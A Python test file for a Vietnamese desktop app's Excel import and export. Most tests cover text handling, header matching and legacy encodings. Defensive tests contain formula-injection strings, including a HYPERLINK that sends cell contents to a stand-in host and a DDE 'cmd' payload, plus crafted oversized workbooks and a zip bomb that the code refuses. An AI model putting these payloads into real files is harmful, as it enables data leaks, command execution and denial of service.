"""Excel reading and writing: text kept as text, clear messages for files that do not fit."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pytest

from tests.fixtures.xlsx_parts import write_workbook_parts
from thidua_desktop.domain import model as m
from thidua_desktop.domain.errors import ValidationError
from thidua_desktop.services.excel import Column, cell_text, map_columns, read_rows, write_rows
from thidua_desktop.services.unit_import import UNIT_COLUMNS, export_units


def test_numbers_come_back_as_the_text_the_user_typed(tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Mã", "Điện thoại", "Số"])
    book.active.append([12, "0912345678", 1.5])
    book.save(tmp_path / "a.xlsx")
    assert read_rows(tmp_path / "a.xlsx") == [
        ["Mã", "Điện thoại", "Số"],
        ["12", "0912345678", "1.5"],
    ]


def test_cell_text():
    assert cell_text(None) == ""
    assert cell_text(7.0) == "7"
    assert cell_text("Ho\u0300a Bi\u0300nh") == "Hòa Bình"  # NFD from a Mac becomes NFC


def test_write_then_read_round_trip_keeps_leading_zeros(tmp_path):
    path = write_rows(tmp_path / "out", ["Mã", "Tên"], [["007", "Sở Tư pháp & Cục THADS"]])
    assert path.suffix == ".xlsx"
    assert read_rows(path) == [["Mã", "Tên"], ["007", "Sở Tư pháp & Cục THADS"]]
    assert openpyxl.load_workbook(path).active["A2"].number_format == "@"


def test_headers_match_without_accents_or_case():
    cols = [
        Column("name", "Tên đơn vị", required=True),
        Column("province", "Tỉnh/thành phố", ("tinh",)),
    ]
    assert map_columns(["STT", "TEN DON VI", "Tỉnh"], cols) == {"name": 1, "province": 2}


def test_wrong_columns_name_the_expected_ones():
    with pytest.raises(ValidationError) as err:
        map_columns(["Họ tên", "Điện thoại"], UNIT_COLUMNS)
    text = str(err.value)
    assert "Thiếu cột «Tên đơn vị»" in text
    assert "«Thủ trưởng»" in text and "«Họ tên»" in text


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("x.xlsx", b"PK\x03\x04 broken zip", "Không đọc được tệp «x.xlsx»"),
        ("x.xls", b"\xd0\xcf\x11\xe0 not really ole", "Không đọc được tệp «x.xls»"),
        ("x.csv", b"a,b", "không phải bảng tính Excel"),
    ],
)
def test_unreadable_files_get_a_message(tmp_path, name, content, expected):
    path = tmp_path / name
    path.write_bytes(content)
    with pytest.raises(ValidationError, match=expected):
        read_rows(path)


def test_missing_file_gets_a_message(tmp_path):
    with pytest.raises(ValidationError, match="Không đọc được"):
        read_rows(tmp_path / "khong-co.xlsx")


def test_export_then_import_changes_nothing(services, small_cluster, tmp_path):
    cid = small_cluster["cluster"].id
    services.edits.change(m.Unit, small_cluster["units"][1].id, is_member=False, short_name="0123")
    path = export_units(tmp_path / "dv.xlsx", services.units.units(cid))
    plan = services.unit_import.read(path, cid)
    assert (plan.added, plan.changed, plan.rejected, plan.unchanged) == ([], [], [], 3)


def test_legacy_cells_in_a_sheet_are_listed_and_converted(services, small_cluster, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["Tên đơn vị", "Thủ trưởng"])
    book.active.append(["Së T\u00ad ph¸p tØnh Lµo Cai", "NguyÔn V¨n An"])
    book.save(tmp_path / "cu.xlsx")
    cid = small_cluster["cluster"].id
    plan = services.unit_import.read(tmp_path / "cu.xlsx", cid)
    assert [(c.field, c.after, c.encoding) for c in plan.legacy] == [
        ("name", "Sở Tư pháp tỉnh Lào Cai", "tcvn3"),
        ("head_name", "Nguyễn Văn An", "tcvn3"),
    ]
    assert plan.added[0].name == "Sở Tư pháp tỉnh Lào Cai"
    kept = services.unit_import.read(tmp_path / "cu.xlsx", cid, convert_legacy=False)
    assert kept.added[0].head_name == "NguyÔn V¨n An"
    outcome = services.unit_import.apply(plan)
    assert services.repo.get(m.Unit, outcome.created[0].id).head_name == "Nguyễn Văn An"
    services.unit_import.revert(outcome)
    assert services.repo.count(m.Unit) == 3


FORMULA_LIKE = [
    '=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def test_text_starting_like_a_formula_is_written_as_text(tmp_path):
    path = write_rows(
        tmp_path / "out.xlsx", ["Tên", FORMULA_LIKE[0]], [[t, t] for t in FORMULA_LIKE]
    )
    sheet = openpyxl.load_workbook(path).active
    cells = [sheet.cell(r, c) for r in range(2, len(FORMULA_LIKE) + 2) for c in (1, 2)]
    cells.append(sheet["B1"])
    assert all(cell.data_type == "s" for cell in cells), [c.data_type for c in cells]
    assert [sheet.cell(r, 1).value for r in range(2, len(FORMULA_LIKE) + 2)] == FORMULA_LIKE
    import zipfile

    xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


# -- hostile workbooks: built here with zipfile, a few KB each ------------------------------
def _workbook(path, sheet_data: str, dimension: str = "", sheet_bytes: bytes | None = None):
    import zipfile

    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    sheet = (
        sheet_bytes
        or (
            '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats'
            f'.org/spreadsheetml/2006/main">{dim}<sheetData>{sheet_data}</sheetData></worksheet>'
        ).encode()
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        write_workbook_parts(z)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    return path


def _cell(ref: str = "", quote: str = '"', eq: str = "=") -> str:
    r = f" r{eq}{quote}{ref}{quote}" if ref else ""
    return f'<c{r} t="inlineStr"><is><t>x</t></is></c>'


_A1 = f'<row r="1">{_cell("A1")}</row>'
HOSTILE_SHEETS = {
    "declared": (_A1 + f'<row r="1048576">{_cell("XFD1048576")}</row>', "A1:XFD1048576"),
    "undeclared": (_A1 + f'<row r="1048576">{_cell("XFD1048576")}</row>', ""),
    "lying": (_A1 + f'<row r="1048576">{_cell("XFD1048576")}</row>', "A1:B2"),
    "spaced": (_A1 + f'<row r="1048576">{_cell("XFD1048576", eq=" = ")}</row>', ""),
    "quoted": (_A1 + f"<row r='1048576'>{_cell('XFD1048576', quote=chr(39))}</row>", ""),
    "lower": (_A1 + f'<row r="1048576">{_cell("xfd1048576")}</row>', ""),
    # no references at all: 3,000 cells placed one after another on the last row
    "unreferenced": (_A1 + '<row r="1048576">' + _cell() * 3000 + "</row>", ""),
}

_PROBE = """
import json, sys
from thidua_desktop.domain.errors import ValidationError
from thidua_desktop.services.attendance_import import read_sheet
from thidua_desktop.services.excel import read_rows
out = {}
for path in sys.argv[1:]:
    reader = read_sheet if "delegates" in path else read_rows
    try:
        reader(path)
        out[path] = "read"
    except ValidationError as exc:
        out[path] = str(exc)
print(json.dumps(out))
"""


def test_hostile_workbooks_are_refused_and_the_process_survives(tmp_path):
    import json
    import subprocess
    import sys

    paths = [
        str(_workbook(tmp_path / f"{name}.xlsx", data, dim))
        for name, (data, dim) in HOSTILE_SHEETS.items()
    ]
    paths.append(str(_workbook(tmp_path / "delegates.xlsx", *HOSTILE_SHEETS["declared"])))
    assert all(Path(p).stat().st_size < 40_000 for p in paths)
    # run where an abort cannot take the test runner with it (it used to: exit 134)
    done = subprocess.run(
        [sys.executable, "-c", _PROBE, *paths], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 0, done.stderr[-2000:]
    answers = json.loads(done.stdout)
    for path in paths:
        name = Path(path).name
        message = answers[path]
        assert f"«{name}»" in message and "\n" not in message, message
        if "unreferenced" in name:
            assert "quá lớn hoặc bị hỏng" in message
        else:
            assert "quá lớn (1.048.576 dòng × 16.384 cột)" in message


def test_zip_bomb_is_refused_before_inflating(tmp_path):
    path = _workbook(tmp_path / "bomb.xlsx", "", sheet_bytes=b" " * (64 * 1024**2))
    assert path.stat().st_size < 200_000
    with pytest.raises(ValidationError, match="khi giải nén chiếm 64 MB, bất thường"):
        read_rows(path)


def test_a_sparse_but_real_sheet_still_reads(tmp_path):
    data = _A1 + f'<row r="5000">{_cell("H5000")}</row>'
    path = _workbook(tmp_path / "sparse.xlsx", data, "A1:H5000")
    rows = read_rows(path)
    assert len(rows) == 5000 and rows[-1] == [""] * 7 + ["x"]
